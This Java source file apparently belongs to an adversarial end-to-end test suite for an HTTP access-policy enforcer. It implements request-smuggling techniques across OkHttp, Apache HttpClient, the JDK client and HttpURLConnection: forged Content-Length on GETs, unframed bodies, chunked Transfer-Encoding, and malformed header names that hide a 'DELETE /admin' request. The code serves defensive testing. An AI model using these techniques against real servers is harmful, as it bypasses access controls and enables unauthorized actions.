package dev.warden.e2e.host.adversary;

import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.Response;
import org.apache.hc.client5.http.async.methods.SimpleRequestBuilder;
import org.apache.hc.client5.http.impl.async.CloseableHttpAsyncClient;
import org.apache.hc.client5.http.impl.async.HttpAsyncClients;
import org.apache.hc.client5.http.impl.classic.CloseableHttpClient;
import org.apache.hc.client5.http.impl.classic.HttpClients;
import org.apache.hc.core5.http.HttpRequestInterceptor;
import org.apache.hc.core5.http.io.support.ClassicRequestBuilder;

import java.io.InputStream;
import java.net.HttpURLConnection;
import java.net.URI;
import java.net.URL;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.concurrent.TimeUnit;

/**
 * Requests whose head frames a body other than the one the client writes, each after the GET the least-privilege
 * policy permits (see {@link GrantsHost}). A server reads a body by its {@code Content-Length} and takes what follows
 * on the connection for the next request: a permitted bodiless {@code GET} declaring {@code Content-Length: N} makes it
 * take the first N bytes of the next request on that pooled connection as that body, exactly up to the value of a
 * header the application set, and read that value ({@code DELETE /admin/NAME HTTP/1.1}) and the rest of the second
 * head as a request of its own, which no decision saw; a body written with no framing at all is read as requests.
 * Each second request is a permitted {@code GET /api/decoy/NAME}; only the smuggled {@code DELETE} is evidence.
 * <p>
 * The JDK's clients refuse an application's {@code Content-Length} unless the operator lets them
 * ({@code jdk.httpclient.allowRestrictedHeaders}, {@code sun.net.http.allowRestrictedHeaders}): {@link #allowRestrictedHeaders()}
 * stands for those flags, before either client is first used.
 */
final class FramingTechniques {

    private static final Duration TIMEOUT = Duration.ofSeconds(10);

    private FramingTechniques() {
    }

    /** The operator's flags that let the JDK's clients write an application's {@code Content-Length}. */
    static void allowRestrictedHeaders() {
        System.setProperty("jdk.httpclient.allowRestrictedHeaders", "content-length");
        System.setProperty("sun.net.http.allowRestrictedHeaders", "true");
    }

    /** OkHttp sets {@code Content-Length} only for a body, and writes an application's on a bodiless GET as given. */
    static String okhttpLengthOnGet(Adversary adversary, String technique) {
        return okhttpGetWithLength(adversary, technique, "Content-Length");
    }

    /** Apache 4's {@code RequestContent} checks only entity-enclosing requests: an {@code HttpGet}'s length is written. */
    static String apache4LengthOnGet(Adversary adversary, String technique) throws Exception {
        return apache4GetWithLength(adversary, technique, "Content-Length");
    }

    /**
     * Apache 4 writes an entity as its head frames it, and with no framing header as it is: a {@code GET} with an
     * entity whose {@code Content-Length} a request interceptor added last removed sends the smuggled request as the
     * body, in one call.
     */
    static String apache4UnframedBody(Adversary adversary, String technique) throws Exception {
        try (org.apache.http.impl.client.CloseableHttpClient client = org.apache.http.impl.client.HttpClients.custom()
                .addInterceptorLast((org.apache.http.HttpRequestInterceptor) (request, context) -> request.removeHeaders("Content-Length"))
                .build()) {
            org.apache.http.client.methods.HttpEntityEnclosingRequestBase get = new org.apache.http.client.methods.HttpEntityEnclosingRequestBase() {
                @Override
                public String getMethod() {
                    return "GET";
                }
            };
            get.setURI(URI.create(adversary.url(decoy(technique))));
            get.setEntity(new org.apache.http.entity.StringEntity(smuggled(technique) + "\r\nHost: " + adversary.apiHost()
                    + "\r\nContent-Length: 0\r\n\r\n", StandardCharsets.US_ASCII));
            return desync(() -> apache4(client, get), () -> "none");
        }
    }

    /** Apache 5's {@code RequestContent} refuses an application's length, but a request interceptor added last runs after it. */
    static String apache5InterceptorLength(Adversary adversary, String technique) throws Exception {
        String path = decoy(technique);
        HttpRequestInterceptor length = (request, entity, context) -> {
            if (request.getFirstHeader("X-Note") == null) {
                request.addHeader("Content-Length", lengthUpTo(path, "X-Note: "));
            }
        };
        try (CloseableHttpClient client = HttpClients.custom().addRequestInterceptorLast(length).build()) {
            return desync(() -> "status=" + client.execute(ClassicRequestBuilder.get(adversary.url(path)).build(), response -> response.getCode()),
                    () -> "status=" + client.execute(ClassicRequestBuilder.get(adversary.url(path)).addHeader("X-Note", smuggled(technique)).build(),
                            response -> response.getCode()));
        }
    }

    /** The same through the async client, whose request interceptors run when a connection is ready to send. */
    static String apache5AsyncInterceptorLength(Adversary adversary, String technique) throws Exception {
        String path = decoy(technique);
        HttpRequestInterceptor length = (request, entity, context) -> {
            if (request.getFirstHeader("X-Note") == null) {
                request.addHeader("Content-Length", lengthUpTo(path, "X-Note: "));
            }
        };
        try (CloseableHttpAsyncClient client = HttpAsyncClients.custom().addRequestInterceptorLast(length).build()) {
            client.start();
            return desync(() -> "status=" + client.execute(SimpleRequestBuilder.get(adversary.url(path)).build(), null)
                            .get(15, TimeUnit.SECONDS).getCode(),
                    () -> "status=" + client.execute(SimpleRequestBuilder.get(adversary.url(path)).addHeader("X-Note", smuggled(technique)).build(), null)
                            .get(15, TimeUnit.SECONDS).getCode());
        }
    }

    /**
     * The JDK client writes its own headers first ({@code Host}; {@code User-Agent} and, on JDK 17, a GET's
     * {@code Content-Length: 0} unless the application sets them), then the application's, in order of name.
     */
    static String jdkClientLengthOnGet(Adversary adversary, String technique) {
        HttpClient client = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).connectTimeout(TIMEOUT).build();
        String path = decoy(technique);
        String host = "Host: " + adversary.apiHost() + ":" + adversary.apiPort() + "\r\n";
        return desync(() -> jdk(client, HttpRequest.newBuilder(URI.create(adversary.url(path)))
                        .header("Content-Length", lengthUpTo(path, host + "A-Note: "))),
                () -> jdk(client, HttpRequest.newBuilder(URI.create(adversary.url(path))).header("User-Agent", "adversary")
                        .header("Content-Length", "0").header("A-Note", smuggled(technique))));
    }

    /**
     * The JDK client refuses no {@code Transfer-Encoding} of the application's, and writes it beside its own
     * {@code Content-Length}: a server that takes the chunked reading ends the body at {@code 0\r\n\r\n} and reads the
     * rest as a request (the JDK's own server refuses both headers together, and answers 400).
     */
    static String jdkClientTransferEncoding(Adversary adversary, String technique) {
        HttpClient client = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).connectTimeout(TIMEOUT).build();
        String body = "0\r\n\r\n" + smuggled(technique) + "\r\nHost: " + adversary.apiHost() + "\r\nContent-Length: 0\r\n\r\n";
        return desync(() -> jdk(client, HttpRequest.newBuilder(URI.create(adversary.url(decoy(technique))))
                .header("Transfer-Encoding", "chunked").method("GET", HttpRequest.BodyPublishers.ofString(body))), () -> "none");
    }

    /** {@code HttpURLConnection} writes the application's headers first, and keeps the connection alive for the next. */
    static String urlConnectionLengthOnGet(Adversary adversary, String technique) {
        String path = decoy(technique);
        return desync(() -> urlConnection(adversary, path, "Content-Length", lengthUpTo(path, "X-Note: ")),
                () -> urlConnection(adversary, path, "X-Note", smuggled(technique)));
    }

    /**
     * A header name that is not a token, {@code Content-Length } with a space before the colon, which Apache 4 and 5
     * and {@code HttpURLConnection} write as given: the framing check read the framing headers by exact name and saw
     * none, while a lenient server drops the space and reads the length (the JDK's own server refuses the head).
     */
    static String apache4SpacedLengthName(Adversary adversary, String technique) throws Exception {
        return apache4GetWithLength(adversary, technique, "Content-Length ");
    }

    /** The same through Apache 5 classic: its {@code RequestContent} looks for {@code Content-Length} by name, and finds none. */
    static String apache5SpacedLengthName(Adversary adversary, String technique) throws Exception {
        String path = decoy(technique);
        try (CloseableHttpClient client = HttpClients.createDefault()) {
            return desync(() -> "status=" + client.execute(ClassicRequestBuilder.get(adversary.url(path))
                            .addHeader("Content-Length ", lengthUpTo(path, "X-Note: ")).build(), response -> response.getCode()),
                    () -> "status=" + client.execute(ClassicRequestBuilder.get(adversary.url(path)).addHeader("X-Note", smuggled(technique)).build(),
                            response -> response.getCode()));
        }
    }

    /**
     * OkHttp checks a name's characters but lets a colon through: {@code Content-Length:: N}, whose name a server
     * that splits at the first colon reads as {@code Content-Length}.
     */
    static String okhttpColonInLengthName(Adversary adversary, String technique) {
        return okhttpGetWithLength(adversary, technique, "Content-Length:");
    }

    /** The same through {@code HttpURLConnection}, whose {@code setRequestProperty} takes a name with a space. */
    static String urlConnectionSpacedLengthName(Adversary adversary, String technique) {
        String path = decoy(technique);
        return desync(() -> urlConnection(adversary, path, "Content-Length ", lengthUpTo(path, "X-Note: ")),
                () -> urlConnection(adversary, path, "X-Note", smuggled(technique)));
    }

    /** The request line no policy here permits, naming the technique. */
    /** A bodiless OkHttp {@code GET} whose header {@code name} declares the smuggled request's length, then the smuggler. */
    private static String okhttpGetWithLength(Adversary adversary, String technique, String name) {
        OkHttpClient client = new OkHttpClient.Builder().readTimeout(TIMEOUT).build();
        String path = decoy(technique);
        return desync(
                () -> okhttp(client, new Request.Builder().url(adversary.url(path)).header(name, lengthUpTo(path, "X-Note: ")).build()),
                () -> okhttp(client, new Request.Builder().url(adversary.url(path)).header("X-Note", smuggled(technique)).build()));
    }

    /** The same through Apache 4's {@code HttpGet}, on one pooled connection. */
    private static String apache4GetWithLength(Adversary adversary, String technique, String name) throws Exception {
        String path = decoy(technique);
        try (org.apache.http.impl.client.CloseableHttpClient client = org.apache.http.impl.client.HttpClients.createDefault()) {
            org.apache.http.client.methods.HttpGet first = new org.apache.http.client.methods.HttpGet(adversary.url(path));
            first.addHeader(name, lengthUpTo(path, "X-Note: "));
            org.apache.http.client.methods.HttpGet second = new org.apache.http.client.methods.HttpGet(adversary.url(path));
            second.addHeader("X-Note", smuggled(technique));
            return desync(() -> apache4(client, first), () -> apache4(client, second));
        }
    }

    private static String smuggled(String technique) {
        return "DELETE /admin/" + technique + " HTTP/1.1";
    }

    private static String decoy(String technique) {
        return "/api/decoy/" + technique;
    }

    /** The length of a GET's head from its request line up to the value of its header whose line ends {@code before}. */
    private static String lengthUpTo(String path, String before) {
        return Integer.toString(("GET " + path + " HTTP/1.1\r\n" + before).length());
    }

    /** The first request, then the second on the same client (its pooled connection), each reported. */
    private static String desync(Techniques.Attempt first, Techniques.Attempt second) {
        return "first=" + Techniques.attempt(first) + " second=" + Techniques.attempt(second);
    }

    private static String okhttp(OkHttpClient client, Request request) throws Exception {
        try (Response response = client.newCall(request).execute()) {
            return "status=" + response.code() + " " + response.body().string();
        }
    }

    private static String apache4(org.apache.http.impl.client.CloseableHttpClient client,
                                  org.apache.http.client.methods.HttpUriRequest request) throws Exception {
        try (org.apache.http.client.methods.CloseableHttpResponse response = client.execute(request)) {
            return "status=" + response.getStatusLine().getStatusCode() + " " + org.apache.http.util.EntityUtils.toString(response.getEntity());
        }
    }

    private static String jdk(HttpClient client, HttpRequest.Builder request) throws Exception {
        return "status=" + client.send(request.timeout(TIMEOUT).build(), HttpResponse.BodyHandlers.ofString()).statusCode();
    }

    private static String urlConnection(Adversary adversary, String path, String header, String value) throws Exception {
        HttpURLConnection connection = (HttpURLConnection) new URL(adversary.url(path)).openConnection();
        connection.setConnectTimeout(10_000);
        connection.setReadTimeout(10_000);
        connection.setRequestProperty(header, value);
        int status = connection.getResponseCode();
        try (InputStream body = connection.getInputStream()) {
            body.readAllBytes(); // read to the end, so the connection goes back to the keep-alive cache
        }
        return "status=" + status;
    }
}
